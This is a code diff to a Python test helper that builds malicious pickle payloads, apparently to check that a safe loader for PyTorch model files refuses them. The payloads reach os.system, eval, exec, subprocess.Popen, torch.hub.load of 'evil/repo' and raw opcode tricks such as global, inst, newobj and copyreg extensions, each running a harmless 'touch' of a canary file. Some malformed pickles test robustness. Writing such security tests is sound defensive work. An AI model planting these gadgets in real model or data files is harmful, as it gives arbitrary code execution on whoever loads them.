@@ -131,17 +131,14 @@ class Runs:
         return self.call
 
 
-def number(n: int) -> bytes:
-    return pickle.dumps(n, 2)[2:-1]
-
-
 def tensor_pickle(
     size: tuple, stride: tuple, offset: int = 0, numel: int = 4, kind: str = "FloatStorage"
 ) -> bytes:
     """Return the pickle of one tensor on storage 0."""
     pid = b"(X\x07\x00\x00\x00storagectorch\n" + kind.encode() + b"\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
-    shape = b"".join(b"(" + b"".join(map(number, numbers)) + b"t" for numbers in (size, stride))
-    call = b"ctorch._utils\n_rebuild_tensor_v2\n((" + pid[1:] + number(numel) + b"tQ" + number(offset) + shape
+    shape = b"".join(pickle.dumps(numbers, 2)[2:-1] for numbers in (size, stride))
+    begin, end = (pickle.dumps(number, 2)[2:-1] for number in (numel, offset))
+    call = b"ctorch._utils\n_rebuild_tensor_v2\n((" + pid[1:] + begin + b"tQ" + end + shape
     return b"\x80\x02" + call + b"\x89NtR."
 
 
@@ -155,70 +152,37 @@ def text(content: str) -> bytes:
 def gadgets(canary: str) -> dict[str, bytes]:
     """Return pickles that would act in a trusting reader, and some that are damaged."""
     touch = f"touch {canary}"
-    line = touch.encode()
-    named = b"cposix\nsystem\n"
-    found = {
-        f"{name} {protocol}": pickle.dumps(Runs(function, *args), protocol)
-        for protocol in range(6)
-        for name, function, args in (
-            ("system", os.system, (touch,)),
-            ("eval", eval, (f"open({canary!r}, 'w')",)),
-            ("exec", exec, (f"open({canary!r}, 'w')",)),
-            ("open", open, (canary, "w")),
-            ("import", __import__, ("antigravity",)),
-            ("popen", subprocess.Popen, (["touch", canary],)),
-        )
+    call, named = text(touch), b"cposix\nsystem\n"
+    acts = {
+        "system": Runs(os.system, touch),
+        "eval": Runs(eval, f"open({canary!r}, 'w')"),
+        "exec": Runs(exec, f"open({canary!r}, 'w')"),
+        "open": Runs(open, canary, "w"),
+        "import": Runs(__import__, "antigravity"),
+        "popen": Runs(subprocess.Popen, ["touch", canary]),
     }
+    found = {f"{name} {n}": pickle.dumps(act, n) for n in range(6) for name, act in acts.items()}
     return found | {
-        "global": named + b"(" + text(touch) + b"tR.",
-        "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + text(touch) + b"tR.",
-        "inst": b"(S'" + line + b"'\niposix\nsystem\n.",
-        "obj": b"(" + named + text(touch) + b"o.",
-        "newobj": named + b"(" + text(touch) + b"t\x81.",
-        "newobj_ex": named + b"(" + text(touch) + b"t}\x92.",
+        "global": named + b"(" + call + b"tR.",
+        "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + call + b"tR.",
+        "inst": b"(S'" + touch.encode() + b"'\niposix\nsystem\n.",
+        "obj": b"(" + named + call + b"o.",
+        "newobj": named + b"(" + call + b"t\x81.",
+        "newobj_ex": named + b"(" + call + b"t}\x92.",
         "ext": b"\x82\x01.",
-        "partial": b"cfunctools\npartial\n(" + named + text(touch) + b"tR)R.",
-        "attrgetter": b"coperator\nattrgetter\n("
-        + text("system")
-        + b"tR(cos\n__name__\ntR("
-        + text(touch)
-        + b"tR.",
-        "methodcaller": b"coperator\nmethodcaller\n("
-        + text("system")
-        + text(touch)
-        + b"tR(cbuiltins\nos\ntR.",
+        "partial": b"cfunctools\npartial\n(" + named + call + b"tR)R.",
         "hub": b"ctorch.hub\nload\n(" + text("evil/repo") + text("model") + b"tR.",
         "torch load": b"ctorch\nload\n(" + text(canary) + b"tR.",
-        "reconstructor": b"ccopyreg\n_reconstructor\n(cos\n_wrap_close\ncbuiltins\nobject\nNtR("
-        + b"d"
-        + b"b.",
         "add_extension": b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR\x82\x01.",
-        "dotted": b"\x80\x04"
-        + text("builtins")
-        + text("__import__.__call__")
-        + b"\x93("
-        + text("os")
-        + b"tR.",
-        "build": named
-        + b"("
-        + text("__setstate__")
-        + named
-        + text("__class__")
-        + named
-        + b"db"
-        + text(touch)
-        + b"\x85R.",
+        "build": named + b"(" + text("__setstate__") + named + b"db" + call + b"\x85R.",
         "build dict": b"}}" + text("__class__") + named + b"sb.",
-        "persistent": b"(" + named + text(touch) + b"tQ.",
-        "persistent text": b"P" + line + b"\n.",
+        "persistent text": b"P" + touch.encode() + b"\n.",
         "rebuild of names": b"ctorch._utils\n_rebuild_tensor_v2\n(" + named + b"K\x00))tR.",
         "rebuild of hooks": b"ctorch._utils\n_rebuild_parameter\n(" + named + b"\x88" + named + b")RtR.",
-        "device hook": b"ctorch._utils\n_rebuild_wrapper_subclass\n(" + named + b"tR.",
-        "call of text": text("os.system") + b"(" + text(touch) + b"tR.",
+        "call of text": text("os.system") + b"(" + call + b"tR.",
         "recursive list": b"]q\x00h\x00a.",
         "recursive dict": b"}q\x00K\x01h\x00s.",
         "long": b"\x8b\xff\xff\xff\x7f\x01.",
-        "nothing": b".",
         "no end": b"N",
         "pop": b"0.",
     }
